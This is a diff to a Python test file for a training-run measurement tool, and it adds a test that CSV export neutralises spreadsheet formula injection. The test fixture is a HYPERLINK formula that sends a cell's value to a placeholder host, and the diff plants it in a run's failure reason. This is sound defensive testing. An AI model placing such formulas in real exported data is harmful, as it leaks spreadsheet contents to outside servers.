@@ -21,11 +21,13 @@ WITH_OPTIONS = EMULATED.replace(
     "gpus: [1, 2]", "parallelism: [ddp, {fsdp: {sharding: [full]}}]\ngpus: [1, 2]"
 )
 
+FORMULA = """=HYPERLINK("http://host/?"&A1, 'no room')"""
+
 
 def or_out_of_memory(trial: Trial) -> AttemptResult:
     """Return a measurement; the larger batch does not fit on one device."""
     if trial.local_batch_size == 8 and trial.world_size == 1:
-        return AttemptResult(outcome=Outcome.OUT_OF_MEMORY, reason="no 'room', \"so\"")
+        return AttemptResult(outcome=Outcome.OUT_OF_MEMORY, reason=FORMULA)
     return completed(trial, hosts=["n1, a", "n2"])
 
 
@@ -161,6 +163,23 @@ def test_an_exported_table_that_was_spoilt_is_refused(
     with pytest.raises(SpecError, match=message):
         scalelab.import_table(path, tmp_path / "again")
     assert not (tmp_path / "again").exists()
+
+
+def test_no_text_of_a_csv_is_a_formula(runs: Sequence[Run], tmp_path: Path) -> None:
+    paths = [
+        scalelab.export(runs[0], tmp_path / "safe.csv"),
+        runs[0].to_csv(tmp_path / "as_is.csv", keep_formulas=True),
+        scalelab.export(runs[0], tmp_path / "rows.json"),
+    ]
+    safe, as_is, _ = (path.read_text() for path in paths)
+    assert "\"'=HYPERLINK" in safe and '"=HYPERLINK' not in safe
+    assert '"=HYPERLINK' in as_is and "'=HYPERLINK" not in as_is
+    reasons = [row["reason"] for row in json.loads(paths[2].read_text())]
+    assert FORMULA in reasons
+
+    command = ["export", str(runs[0].path), "-o", str(tmp_path / "command.csv")]
+    assert main.run([*command, "--keep-formulas"]) == 0
+    assert (tmp_path / "command.csv").read_text() == as_is
 
 
 def test_an_attempt_that_stands_there_twice_is_refused(
